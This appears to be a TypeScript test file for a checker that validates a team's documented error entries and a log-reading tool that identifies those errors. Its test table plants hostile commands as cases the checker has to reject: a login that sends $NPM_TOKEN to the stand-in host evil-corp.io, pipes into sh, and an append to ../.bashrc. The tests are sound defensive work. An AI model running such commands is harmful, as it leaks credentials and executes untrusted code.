import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { findProblems } from '#checks/all-rules.ts'
import { readContent } from '#content/read.ts'
import { goodContent, project } from '../checks/content.ts'
import { runWith } from '../identify/run-program.ts'
import { documentedErrors, ownErrors } from './documented-errors.ts'

/** A command of the project, told of a team’s own folder. */
function run(file: string, words: string[], folder: string, input = '') {
  return runWith(process.execPath, [file, ...words], {
    input,
    env: { EKB_CONTENT: folder, CI: '' },
  })
}

const addresses = [
  'acme-cli/ACME001',
  'acme-cli/ACME001#no-session',
  'acme-cli/ACME002',
  'acme-cli/ACME002#over-quota',
  'npm/E401#acme-vpn-ended',
]

test('the documented walk passes the check, which keeps its addresses in the folder and nowhere else', async () => {
  const folder = ownErrors()
  const ledger = readFileSync('content/published.txt', 'utf8')
  const first = await run('src/checks/run.ts', [], folder)
  expect(first).toMatchObject({ status: 0, complaint: '' })
  expect(first.out).toMatch(/^No problems\./)
  const kept = readFileSync(join(folder, 'published.txt'), 'utf8')
  expect(kept.split('\n').slice(1, -1)).toEqual(addresses)
  expect(readFileSync('content/published.txt', 'utf8')).toBe(ledger)
  const second = await run('src/checks/run.ts', ['acme-cli/ACME001', 'npm/E401'], folder)
  expect(second.out).toBe('No problems.\n')
}, 300_000)

const logs = {
  'acme-cli/ACME001#no-session':
    'acme: ACME001: not logged in to deploy.acme.example: no session\n',
  'acme-cli/ACME002#over-quota':
    '2026-11-28T16:20:00.1234567Z \u001b[31macme: ACME002: deploy.acme.example refuses another service: over quota\u001b[0m\r\n',
  'npm/E401#acme-vpn-ended':
    'npm ERR! code E401\nnpm ERR! 401 Unauthorized - GET https://npm.acme.example/x - VPN session ended\n',
}

test('the program that reads logs knows the errors of the team, and says that no recording proves them', async () => {
  const folder = ownErrors()
  for (const [id, log] of Object.entries(logs)) {
    const { status, out } = await run('src/checkout/ekb.ts', ['identify', '--json'], folder, log)
    expect(status, out).toBe(0)
    const [found] = (JSON.parse(out) as { cases: { id: string; proven: boolean }[] }).cases
    expect(found).toMatchObject({ id, proven: false })
  }
  const vpn = logs['npm/E401#acme-vpn-ended']
  const { out } = await run('src/checkout/ekb.ts', ['identify'], folder, vpn)
  expect(out).toContain('At Acme, ask in the channel #npm-help.')
  expect(out).toContain('not proven by a recording')
  expect(out).toContain('1. Connect to the VPN again.')
  const warning = await run('src/checkout/ekb.ts', ['identify'], folder, 'acme: warning: old\n')
  expect(warning.status).toBe(1)
  const unknown = 'acme: ACME777: what is this\n'
  expect((await run('src/checkout/ekb.ts', ['identify'], folder, unknown)).out).toContain(
    'Line 1: acme-cli ACME777, which has no page here.',
  )
}, 300_000)

test('without the folder, nothing of it is known', async () => {
  const { status, out } = await runWith(process.execPath, ['src/checkout/ekb.ts', 'identify'], {
    input: logs['acme-cli/ACME001#no-session'],
  })
  expect({ status, out }).toMatchObject({ status: 1 })
}, 120_000)

test('a folder that is not there is said by every command', async () => {
  const lost = join(ownErrors({}), 'lost')
  const check = await run('src/checks/run.ts', ['npm/E401'], lost)
  const identify = await run('src/checkout/ekb.ts', ['identify'], lost, 'x')
  expect(check.out + check.complaint).toContain('EKB_CONTENT names this folder')
  expect(identify).toMatchObject({ status: 2 })
  expect(identify.complaint).toContain(`${lost}: EKB_CONTENT names this folder`)
}, 120_000)

test('what is wrong with the settings of the folder is said by the check, once and with its line', async () => {
  const folder = ownErrors()
  const file = join(folder, 'site.yaml')
  writeFileSync(file, 'programs: [acme]\nurl: errors.acme.example\n')
  const { status, complaint } = await run('src/checks/run.ts', [], folder)
  expect(status).toBe(1)
  expect(complaint).toBe(
    `${file}:2  “url” reads “errors.acme.example”\n    write the whole address: https://errors.example.com\n`,
  )
})

test('an entry of a tool of the team is begun in its folder', async () => {
  const folder = ownErrors()
  const { status, out } = await run('src/checks/new.ts', ['acme-cli', 'ACME003'], folder)
  expect({ status, out }).toMatchObject({ status: 0 })
  expect(readdirSync(join(folder, 'acme-cli/ACME003'))).toEqual(['entry.mdx'])
  expect(existsSync('content/acme-cli')).toBe(false)
}, 120_000)

/** What the rules find in these files beside a small base in which everything is right. */
function findIn(files: Record<string, string>) {
  const folder = ownErrors(files)
  const base = goodContent()
  const root = project(base)
  const content = readContent(root, { today: '2026-11-28', ci: false, ownFolder: folder })
  return findProblems(content).map(({ file, line, message }) => ({
    file: file.replace(`${folder}/`, ''),
    isOwn: file.startsWith(`${folder}/`),
    line:
      line === undefined
        ? ''
        : (files[file.slice(folder.length + 1)] ?? '').split('\n')[line - 1]?.trim(),
    message,
  }))
}

const good = documentedErrors()
const entry = 'acme-cli/ACME001/entry.mdx'
const tool = 'acme-cli/tool.yaml'
const addition = 'npm/E401/addition.mdx'
// Put together as the tests run: no file names the host of a stranger.
const stranger = ['evil-corp', 'io'].join('.')

/** The documented files with one thing changed. */
function changed(file: string, from: string, to: string): Record<string, string> {
  expect(good[file]).toContain(from)
  return { ...good, [file]: good[file]!.replace(from, to) }
}

test('beside another base, the documented files are right, too', () => {
  expect(findIn(good)).toEqual([])
})

test.each([
  [
    'a text that is code',
    () => changed(entry, 'A session ends', 'A {session} ends'),
    entry,
    /is read as code/,
  ],
  [
    'an element',
    () => changed(addition, '1. **Connect', '<Script src="x" />\n\n1. **Connect'),
    addition,
    /is read as a component/,
  ],
  [
    'a link without https',
    () => changed(entry, 'A session ends', '[A](http://acme.example) session ends'),
    entry,
    /neither https/,
  ],
  [
    'a program that nobody names',
    () => changed(entry, 'acme login', 'acmee login'),
    entry,
    /“acmee” is not a program/,
  ],
  [
    'a shell as a program of the tool',
    () => changed(tool, 'programs: [acme]', 'programs: [acme, bash]'),
    tool,
    /“bash” is not a program of this tool/,
  ],
  [
    'a program that the owner does not list',
    () => changed(tool, 'programs: [acme]', 'programs: [acme, rimraf]'),
    tool,
    /“rimraf” is not a program that the owner of the site lists/,
  ],
  [
    'a program where the owner lists none',
    () => changed('site.yaml', 'programs: [acme]', 'name: Acme'),
    tool,
    /“acme” is not a program that the owner of the site lists/,
  ],
  [
    'a command that adds to a file',
    () => changed(entry, 'acme login', 'acme login >> ../.bashrc'),
    entry,
    /output is added to/,
  ],
  [
    'a command that gives a secret to a stranger',
    () => changed(entry, 'acme login', `acme login --server ${stranger} $NPM_TOKEN`),
    entry,
    /is not a host/,
  ],
  [
    'a program of which everything reads',
    () => changed(tool, "reads: ['acme whoami',", "reads: ['acme', 'acme whoami',"),
    tool,
    /“acme” does not name a command/,
  ],
  [
    'a reading command of another program',
    () => changed(tool, "reads: ['acme whoami',", "reads: ['npm publish', 'acme whoami',"),
    tool,
    /“npm publish” does not name a command/,
  ],
  [
    'a command that is told to go to a stranger',
    () => changed(entry, 'acme login', `acme login https://${stranger}/x`),
    entry,
    /is not a host/,
  ],
  [
    'a command that prints a version and does more',
    () => changed(tool, "['acme --version']", "['acme --version | sh']"),
    tool,
    /“sh” is not a program/,
  ],
  [
    'a label that says too little',
    () => changed(entry, 'sh changes-machine', 'sh reads'),
    entry,
    /labelled “reads”/,
  ],
  [
    'a pipe into a shell',
    () => changed(entry, 'acme login', 'acme login | sh'),
    entry,
    /“sh” is not a program|runs what/,
  ],
  [
    'a regular expression in the form of a line',
    () => changed(tool, 'acme: {code}: {text}', 'acme: {(a+)+}: {text}'),
    tool,
    /the form “.*” cannot be read/,
  ],
  [
    'a form that fits every line',
    () => changed(tool, "'acme: error: {text}'", "'{text}'"),
    tool,
    /the form “.*” cannot be read/,
  ],
  [
    'an unknown field',
    () => changed(tool, 'order: 10', 'order: 10\nregex: x'),
    tool,
    /no field “regex”/,
  ],
  [
    'a case without a fix',
    () => changed(addition, '### Your VPN session has ended', '### Your VPN has ended'),
    addition,
    /has no fix|belongs to no case/,
  ],
  [
    'a case that the base has',
    () => changed(addition, 'id: acme-vpn-ended', 'id: token-expired'),
    addition,
    /is the address of the case/,
  ],
  [
    'a signature that fits a recording of the base',
    () =>
      changed(
        addition,
        'npm error 401 Unauthorized - {word} {url} - VPN session ended',
        'npm error token-expired of @acme/{word}',
      ),
    addition,
    /fits the recording/,
  ],
  [
    'a section that an addition may not have',
    () => ({
      ...good,
      [addition]: `${good[addition]}\n## Why it happens\n\nThe VPN ends sessions.\n`,
    }),
    addition,
    /no section “Why it happens”/,
  ],
  [
    'a link that leads nowhere',
    () => changed(addition, 'Then repeat', '[Then](/npm/E999/) repeat'),
    addition,
    /leads nowhere/,
  ],
  [
    'an addition to nothing',
    () => ({ ...good, 'npm/E40I/addition.mdx': good[addition]! }),
    'npm/E40I/addition.mdx',
    /no entry npm\/E40I/,
  ],
  [
    'an entry that the base has',
    () => ({ ...good, 'npm/E403/entry.mdx': good[entry]!.replace('ACME001', 'E403') }),
    'npm/E403/entry.mdx',
    /is an entry of the base/,
  ],
  [
    'a tool that the base has',
    () => ({ ...good, 'npm/tool.yaml': good[tool]! }),
    'npm/tool.yaml',
    /is a tool of the base/,
  ],
  [
    'words that are not plain',
    () =>
      changed(entry, 'A session ends after 12 hours', 'The server holds a session for 12 hours'),
    entry,
    /holds/,
  ],
  [
    'a published address that is gone',
    () => ({ ...good, 'published.txt': 'acme-cli/ACME009\n' }),
    'published.txt',
    /acme-cli\/ACME009 would disappear/,
  ],
  [
    'a file that nothing reads',
    () => ({ ...good, 'acme-cli/ACME001/notes.txt': 'x' }),
    'acme-cli/ACME001/notes.txt',
    /nothing reads/,
  ],
])('%s is named with its file in the folder', (_, files, file, message) => {
  const found = findIn(files())
  expect(found.filter(({ isOwn }) => !isOwn)).toEqual([])
  expect(found.map((one) => one.file)).toContain(file)
  expect(
    found
      .filter((one) => one.file === file)
      .map((one) => one.message)
      .join('\n'),
  ).toMatch(message)
})
